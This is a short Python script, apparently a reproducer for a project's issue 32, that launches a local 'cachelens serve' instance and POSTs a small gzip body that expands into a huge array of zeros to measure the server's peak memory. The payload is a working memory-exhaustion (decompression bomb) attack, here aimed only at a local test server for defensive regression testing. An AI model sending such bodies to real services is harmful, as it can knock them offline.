#!/usr/bin/env python3
# Usage: scripts/upload-memory.py path/to/cachelens ZEROS_MIB
# Starts `cachelens serve` on a fresh database, POSTs one gzip body whose only entry has a
# metadata array of ZEROS_MIB MiB of zeros (a 32 KiB body for 32 MiB: issue 32's attack), and
# prints the answer and the server's peak RSS before and after (VmHWM).
# The memory attack: a small gzip body whose entry metadata is a long array of zeros.
import gzip, json, os, re, subprocess, sys, tempfile, time, urllib.request
binp, zeros_mib = sys.argv[1], int(sys.argv[2])
d = tempfile.mkdtemp()
db = os.path.join(d, "s.db")
tok = subprocess.run([binp, "token", "create", "--machine", "m", "--db", db], capture_output=True, text=True).stdout.strip()
p = subprocess.Popen([binp, "serve", "--db", db, "--listen", "127.0.0.1:0"], stderr=subprocess.PIPE, text=True)
url = None
while url is None:
    line = p.stderr.readline()
    m = re.search(r"on (http://\S+)", line)
    if m: url = m.group(1)
def hwm():
    for l in open(f"/proc/{p.pid}/status"):
        if l.startswith("VmHWM"): return int(l.split()[1]) / 1024
time.sleep(0.5)
before = hwm()
entry = {"key": "K", "dir": "K", "kind": "kernel", "kernel": "k", "backend": None, "arch": None, "warp_size": None,
         "num_warps": None, "num_stages": None, "num_ctas": None, "triton_version": None, "meta_hash": None,
         "signature": None, "shapes": None, "created_at": None, "bytes": 1, "registers": None, "spills": None,
         "shared_bytes": None, "resources": None, "metadata": "@@", "group": None, "partial": None, "artifacts": [],
         "autotune": None, "sig": "s"}
head = json.dumps({"format": 1, "client_id": "c", "machine": "m", "root": "/r", "scanned_at": 1763000000000,
                   "duration_ms": 1, "entries": [entry]})
n = zeros_mib << 19  # "0," is 2 bytes
raw = head.replace('"@@"', "[" + "0," * n + "0]").encode()
body = gzip.compress(raw, 9)
req = urllib.request.Request(url + "/api/v1/scans", data=body, method="POST",
      headers={"Authorization": "Bearer " + tok, "Content-Encoding": "gzip", "Content-Type": "application/json"})
t = time.time()
try:
    r = urllib.request.urlopen(req, timeout=600); status, ans = r.status, r.read()[:300]
except urllib.error.HTTPError as e:
    status, ans = e.code, e.read()[:300]
dt = time.time() - t
print(f"{os.path.basename(binp)}: body {len(body)/1024:.0f} KiB gzip, {len(raw)/2**20:.0f} MiB JSON -> {status} in {dt:.1f} s; server VmHWM {before:.0f} -> {hwm():.0f} MB; {ans[:160]!r}")
p.kill()
